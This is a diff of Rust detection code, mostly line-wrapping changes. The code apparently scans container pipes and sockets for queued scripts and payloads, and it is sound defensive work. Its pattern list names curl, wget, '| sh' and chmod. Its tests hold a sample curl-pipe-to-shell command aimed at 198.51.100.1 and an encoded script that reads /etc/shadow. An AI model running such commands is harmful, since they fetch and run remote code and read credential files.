@@ -39,7 +39,8 @@ fn check(facts: &Facts<'_>, report: &mut Report<'_>) {
         if let Some(text) = pipe.text.as_ref().filter(|text| !text.is_empty()) {
             let key = ("inode", u64::from(pipe.inode));
             let holder = first(&pipe.readers).or_else(|| first(&pipe.writers));
-            let queue = Queue { table: "pipes", key, what: "a pipe", text, holder, socket: None, sha256: pipe.sha256.clone() };
+            let queue =
+                Queue { table: "pipes", key, what: "a pipe", text, holder, socket: None, sha256: pipe.sha256.clone() };
             if !look(facts, report, &queue) {
                 return;
             }
@@ -49,8 +50,15 @@ fn check(facts: &Facts<'_>, report: &mut Report<'_>) {
         if let Some(text) = packet.text.as_ref().filter(|text| !text.is_empty()) {
             let key = ("socket", packet.socket.unwrap_or(0));
             let (holder, socket) = (first(&packet.holders), packet.socket);
-            let queue =
-                Queue { table: "unix_queues", key, what: "a unix socket", text, holder, socket, sha256: packet.sha256.clone() };
+            let queue = Queue {
+                table: "unix_queues",
+                key,
+                what: "a unix socket",
+                text,
+                holder,
+                socket,
+                sha256: packet.sha256.clone(),
+            };
             if !look(facts, report, &queue) {
                 return;
             }
@@ -60,8 +68,15 @@ fn check(facts: &Facts<'_>, report: &mut Report<'_>) {
         if let Some(text) = tcp.text.as_ref().filter(|text| !text.is_empty()) {
             let key = ("socket", tcp.socket);
             let (holder, socket) = (first(&tcp.holders), Some(tcp.socket));
-            let queue =
-                Queue { table: "tcp_queues", key, what: "a TCP connection", text, holder, socket, sha256: tcp.sha256.clone() };
+            let queue = Queue {
+                table: "tcp_queues",
+                key,
+                what: "a TCP connection",
+                text,
+                holder,
+                socket,
+                sha256: tcp.sha256.clone(),
+            };
             if !look(facts, report, &queue) {
                 return;
             }
@@ -75,7 +90,8 @@ fn look(facts: &Facts<'_>, report: &mut Report<'_>, queue: &Queue<'_>) -> bool {
     }
     let Some((payload, severity)) = payload(queue.text.as_bstr()) else { return true };
     let who = queue.holder.and_then(|pid| facts.process(pid));
-    let by = who.map_or_else(|| "the container".to_owned(), |process| super::thread_outside_code::lower(&process.title()));
+    let by =
+        who.map_or_else(|| "the container".to_owned(), |process| super::thread_outside_code::lower(&process.title()));
     let subject = queue.holder.map_or_else(|| Subject::Socket(queue.what.to_owned()), Subject::Process);
     let head = queue.text.get(..120.min(queue.text.len())).unwrap_or_default();
     let mut finding = Finding::new(&RULE, subject)
@@ -113,8 +129,10 @@ fn payload(bytes: &BStr) -> Option<(&'static str, Severity)> {
     // One of these in base64.
     let is_text = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'\n' | b'\r');
     let len = bytes.iter().take_while(|byte| is_text(byte)).count();
-    let encoded: Vec<u8> = bytes.iter().take(len).copied().filter(|byte| !matches!(byte, b'\n' | b'\r' | b'=')).collect();
-    let whole = encoded.get(..encoded.len().saturating_sub(encoded.len().checked_rem(4).unwrap_or(0))).unwrap_or_default();
+    let encoded: Vec<u8> =
+        bytes.iter().take(len).copied().filter(|byte| !matches!(byte, b'\n' | b'\r' | b'=')).collect();
+    let whole =
+        encoded.get(..encoded.len().saturating_sub(encoded.len().checked_rem(4).unwrap_or(0))).unwrap_or_default();
     if whole.len() < 16 || len < bytes.len().saturating_sub(2) {
         return None;
     }
@@ -130,7 +148,9 @@ fn plain(bytes: &BStr) -> Option<(&'static str, Severity)> {
         return Some(("a script", Severity::Medium));
     }
     let fetches = ["curl ", "wget "].iter().any(|word| bytes.contains_str(word));
-    let runs = ["| sh", "|sh", "| bash", "|bash", "chmod +x", "chmod 755", "chmod 777"].iter().any(|word| bytes.contains_str(word));
+    let runs = ["| sh", "|sh", "| bash", "|bash", "chmod +x", "chmod 755", "chmod 777"]
+        .iter()
+        .any(|word| bytes.contains_str(word));
     if fetches && runs {
         return Some(("a command that fetches and runs something", Severity::High));
     }
@@ -146,7 +166,10 @@ mod tests {
     fn payloads_are_known_plain_and_in_base64() {
         let what = |bytes: &[u8]| payload(bytes.as_bstr()).map(|(what, _)| what);
         assert_eq!(what(b"#!/bin/sh\nid"), Some("a script"));
-        assert_eq!(what(b"sleep 3; curl -s http://198.51.100.1/u.sh | sh\n"), Some("a command that fetches and runs something"));
+        assert_eq!(
+            what(b"sleep 3; curl -s http://198.51.100.1/u.sh | sh\n"),
+            Some("a command that fetches and runs something")
+        );
         let encoded = data_encoding::BASE64.encode(b"#!/bin/sh\ncat /etc/shadow\n");
         assert_eq!(what(encoded.as_bytes()), Some("a payload in base64"));
         assert_eq!(what(b"GET / HTTP/1.1\r\nUser-Agent: curl/8\r\n\r\n"), None);
